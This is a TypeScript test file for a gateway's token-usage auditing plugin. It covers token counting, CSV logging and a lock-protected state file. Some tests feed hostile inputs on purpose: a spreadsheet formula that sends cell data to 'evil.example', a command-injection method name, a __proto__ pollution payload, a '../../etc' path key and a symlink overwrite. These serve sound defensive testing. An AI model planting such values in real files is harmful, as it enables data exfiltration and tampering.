// token_usage: counting with cl100k_base (and its bounds), the CSV (the original's columns, formula
// injection), and the shared state file against damaged and hostile content.
import { strict as assert } from 'node:assert';
import { existsSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import * as path from 'node:path';
import { tokenUsage } from '../../../src/plugins/auditing/token_usage';
import { parseState, totalsOf, TokenUsageStateFile, slotFor, type UsageTable } from '../../../src/plugins/auditing/token_usage_state';
import { countTextTokens, estimateTokens, EXACT_LIMIT_CHARS } from '../../../src/gateway/chunks/tokenizer';
import { validateConfigObject } from '../../../src/config/loader';
import { createAuditor, requestEvent, responseEvent, tempDir, testEnv } from './auditing/helpers';

function table(entries: [string, string, number, number, number][]): UsageTable {
  const t: UsageTable = new Map();
  for (const [server, tool, input, output, calls] of entries) Object.assign(slotFor(t, server, tool), { input_tokens: input, output_tokens: output, calls });
  return t;
}

function plain(t: UsageTable): Record<string, Record<string, unknown>> {
  return Object.fromEntries([...t].map(([s, tools]) => [s, Object.fromEntries(tools)]));
}

describe('token_usage: counting', () => {
  it('counts cl100k_base tokens exactly for ordinary text, special-token text included', () => {
    assert.deepEqual(countTextTokens('hello world'), { tokens: 2, exact: true });
    // The encoder throws on special tokens by default: a server could make counting fail with one.
    assert.equal(countTextTokens('a <|endoftext|> b').exact, true);
    assert.ok(countTextTokens('a <|endoftext|> b').tokens > 3);
  });

  it('estimates huge texts and long unbroken runs instead of encoding them', () => {
    const huge = 'word '.repeat(EXACT_LIMIT_CHARS);
    assert.deepEqual(countTextTokens(huge), { tokens: estimateTokens(huge), exact: false });
    const run = countTextTokens(`start ${'x'.repeat(50_000)} end`);
    assert.equal(run.exact, false);
    assert.ok(run.tokens >= 50_000 / 4, String(run.tokens));
    assert.equal(estimateTokens(''), 0);
  });
});

describe('token_usage: plugin', () => {
  let temp: ReturnType<typeof tempDir>;
  beforeEach(() => (temp = tempDir('gatekit-tokens-')));
  afterEach(() => temp.dispose());

  it('is fail-open by default (critical: false) and validates its options', () => {
    const config = { proxy: { transport: 'stdio', upstreams: [{ name: 'gh', command: ['x'] }] }, plugins: { auditing: { _global: [{ handler: 'token_usage', config: { output_file: 'u.csv' } }] } } };
    const loaded = validateConfigObject(config, { configDir: temp.dir });
    const entry = loaded.config.plugins.auditing._global![0]!;
    assert.equal(entry.critical, false);
    assert.deepEqual(entry.options, { output_file: 'u.csv', max_file_size_mb: 10, backup_count: 5, state_file: 'logs/token_usage_state.json', flush_interval_seconds: 1 });
    const bad = { ...config, plugins: { auditing: { _global: [{ handler: 'token_usage', config: { flush_interval_seconds: 0 } }] } } };
    assert.throws(() => validateConfigObject(bad, { configDir: temp.dir }), /flush_interval_seconds/);
  });

  it('writes one row per request and answer with the original columns, and counts per server and tool', async () => {
    const env = testEnv(temp.dir);
    const auditor = createAuditor(tokenUsage, { output_file: 'usage.csv', state_file: 'state.json' }, env);
    await auditor.record(requestEvent({}, { name: 'echo', arguments: { text: 'hello world' } }));
    await auditor.record(responseEvent({}, { content: [{ type: 'text', text: 'hello world '.repeat(10) }] }));
    await auditor.record(requestEvent({ requestId: 8, method: 'tools/list', tool: undefined }, {}));
    await auditor.record(responseEvent({ requestId: 8, method: 'tools/list', tool: undefined }, { tools: [] }));
    await auditor.close!();
    const lines = readFileSync(path.join(temp.dir, 'usage.csv'), 'utf8').trim().split('\n');
    assert.equal(lines[0], 'timestamp,server,method,tool,input_tokens,output_tokens');
    const [timestamp, server, method, tool, input, output] = lines[1]!.split(',');
    assert.equal(timestamp, '2025-01-12T15:30:45.123Z');
    assert.deepEqual([server, method, tool], ['gh', 'tools/call', 'echo']);
    assert.ok(Number(input) > Number(output) && Number(output) > 0, lines[1]);
    assert.match(lines[2]!, /^[^,]+,gh,tools\/list,_other,\d+,\d+$/);
    const state = parseState(readFileSync(path.join(temp.dir, 'state.json'), 'utf8'));
    assert.equal(state.instances.size, 0, 'a stopped gateway leaves no entry of its own');
    const echo = state.finished.get('gh')!.get('echo')!;
    assert.deepEqual([echo.input_tokens, echo.output_tokens, echo.calls], [Number(input), Number(output), 1]);
  });

  it('neutralises formula injection in a tool name and method (CSV cells)', async () => {
    const env = testEnv(temp.dir);
    const auditor = createAuditor(tokenUsage, { output_file: 'usage.csv', state_file: 'state.json' }, env);
    const tool = '=HYPERLINK("http://evil.example/?"&A1,"x")';
    await auditor.record(requestEvent({ tool, method: 'tools/call' }));
    await auditor.record(responseEvent({ tool, method: 'tools/call' }));
    await auditor.record(requestEvent({ requestId: 9, tool: undefined, method: '@SUM(1+1)\n+cmd' }));
    await auditor.record(responseEvent({ requestId: 9, tool: undefined, method: '@SUM(1+1)\n+cmd' }));
    await auditor.close!();
    const lines = readFileSync(path.join(temp.dir, 'usage.csv'), 'utf8').trim().split('\n');
    assert.equal(lines.length, 3, 'every row stays one line');
    assert.match(lines[1]!, /^[^,]+,gh,tools\/call,"'=HYPERLINK\(""http:\/\/evil.example\/\?""&A1;?/);
    for (const cell of lines.slice(1).flatMap((l) => l.split(','))) assert.doesNotMatch(cell, /^"?[=+@-]/, cell);
  });

  it('never blocks on a broken tokenizer input or unserialisable payload (fail-open) and pairs by origin and id', async () => {
    const env = testEnv(temp.dir);
    const auditor = createAuditor(tokenUsage, { output_file: 'usage.csv', state_file: 'state.json' }, env);
    const cyclic: Record<string, unknown> = {};
    cyclic.self = cyclic;
    await auditor.record(requestEvent({}, cyclic));
    // A server's request with the same id as the client's: a different exchange.
    await auditor.record(responseEvent({ origin: 'server', method: 'sampling/createMessage', tool: undefined }));
    await auditor.record(responseEvent());
    await auditor.close!();
    const rows = readFileSync(path.join(temp.dir, 'usage.csv'), 'utf8').trim().split('\n').slice(1);
    assert.equal(rows.length, 2);
    assert.match(rows[0]!, /,gh,sampling\/createMessage,_other,0,\d+$/, 'for a server request the answer is what the model wrote');
    assert.match(rows[1]!, /,gh,tools\/call,echo,\d+,0$/);
  });
});

describe('token_usage: state file', () => {
  let temp: ReturnType<typeof tempDir>;
  beforeEach(() => (temp = tempDir('gatekit-tokens-state-')));
  afterEach(() => temp.dispose());

  const stateAt = (dir: string, pid: number, alive: (pid: number) => boolean = () => true, logs: string[] = []) =>
    new TokenUsageStateFile({ path: path.join(dir, 'state.json'), pid, log: (l) => logs.push(l), isAlive: alive });

  it('keeps one entry per process, folds dead ones into the finished totals, and survives restarts', async () => {
    const a = stateAt(temp.dir, 101);
    const b = stateAt(temp.dir, 202, (pid) => pid !== 101);
    await a.publish(table([['fs', 'read', 10, 2, 1]]));
    await stateAt(temp.dir, 202).publish(table([['fs', 'read', 5, 1, 1]]));
    let state = await a.read();
    assert.deepEqual([...state.instances.keys()].sort(), ['101', '202']);
    assert.deepEqual(plain(totalsOf(state)), { fs: { read: { input_tokens: 15, output_tokens: 3, calls: 2 } } });
    // 101 died without retiring: 202's next write folds it in.
    await b.publish(table([['fs', 'read', 6, 1, 2]]));
    state = await b.read();
    assert.deepEqual([...state.instances.keys()], ['202']);
    assert.deepEqual(plain(state.finished), { fs: { read: { input_tokens: 10, output_tokens: 2, calls: 1 } } });
    await b.retire(table([['fs', 'read', 6, 1, 2]]));
    // A restart (new PID) sees the old counters.
    const restarted = await stateAt(temp.dir, 303).read();
    assert.deepEqual(plain(totalsOf(restarted)), { fs: { read: { input_tokens: 16, output_tokens: 3, calls: 3 } } });
  });

  it('sets a damaged state file aside and starts over', async () => {
    const file = path.join(temp.dir, 'state.json');
    const logs: string[] = [];
    for (const damaged of ['{not json', '[]', '{"version":99}', '']) {
      writeFileSync(file, damaged);
      await stateAt(temp.dir, 404, () => true, logs).publish(table([['fs', 't', 1, 1, 1]]));
      assert.deepEqual(plain(totalsOf(parseState(readFileSync(file, 'utf8')))), { fs: { t: { input_tokens: 1, output_tokens: 1, calls: 1 } } }, damaged);
    }
    assert.equal(logs.length, 4);
    assert.match(logs[0]!, /could not be used.*moved to/);
    assert.ok(readdirSync(temp.dir).some((f) => f.includes('.damaged-')));
  });

  it('drops hostile entries: __proto__ names stay plain keys, bad counters and PIDs are ignored', async () => {
    const file = path.join(temp.dir, 'state.json');
    writeFileSync(
      file,
      JSON.stringify({
        version: 1,
        finished: JSON.parse('{"__proto__": {"polluted": {"input_tokens": 1, "output_tokens": 2, "calls": 3}}, "fs": {"neg": {"input_tokens": -5, "output_tokens": 0, "calls": 0}, "big": {"input_tokens": 1e300, "output_tokens": 0, "calls": 0}, "str": {"input_tokens": "9", "output_tokens": 0, "calls": 0}}}'),
        instances: { '../../etc': { updated: 'x', servers: {} }, '0': { updated: 'x', servers: {} }, '12': 'nope' },
      }),
    );
    const state = await stateAt(temp.dir, 505).read();
    assert.deepEqual(plain(state.finished), JSON.parse('{"__proto__": {"polluted": {"input_tokens": 1, "output_tokens": 2, "calls": 3}}}'));
    assert.equal(state.instances.size, 0);
    assert.equal(({} as Record<string, unknown>).polluted, undefined);
    await stateAt(temp.dir, 505).publish(table([['fs', 't', 1, 1, 1]]));
    assert.match(readFileSync(file, 'utf8'), /"__proto__"/, 'written back as an ordinary key');
  });

  it('refuses to write through a symlink at the state path and counts on (fail-open in the plugin)', async () => {
    const target = path.join(temp.dir, 'elsewhere.json');
    writeFileSync(target, 'precious');
    symlinkSync(target, path.join(temp.dir, 'state.json'));
    await assert.rejects(stateAt(temp.dir, 606).publish(table([['fs', 't', 1, 1, 1]])));
    assert.equal(readFileSync(target, 'utf8'), 'precious');
    assert.equal(existsSync(path.join(temp.dir, 'state.json.lock')), false, 'the lock is released after a failure');
  });

  it('breaks a lock left by a dead process, and waits for a live holder', async () => {
    const lock = path.join(temp.dir, 'state.json.lock');
    writeFileSync(lock, '999999\n');
    await stateAt(temp.dir, 707, (pid) => pid !== 999999).publish(table([['fs', 't', 1, 1, 1]]));
    assert.equal(existsSync(lock), false);
    writeFileSync(lock, `${process.pid}\n`);
    let done = false;
    const writing = stateAt(temp.dir, 808).publish(table([['fs', 't', 2, 2, 2]])).then(() => (done = true));
    await new Promise((resolve) => setTimeout(resolve, 150));
    assert.equal(done, false, 'a live holder is waited for');
    writeFileSync(path.join(temp.dir, 'ignored'), '');
    // Release it as its holder would.
    (await import('node:fs')).rmSync(lock);
    await writing;
    assert.ok(parseState(readFileSync(path.join(temp.dir, 'state.json'), 'utf8')).instances.has('808'));
  });
});
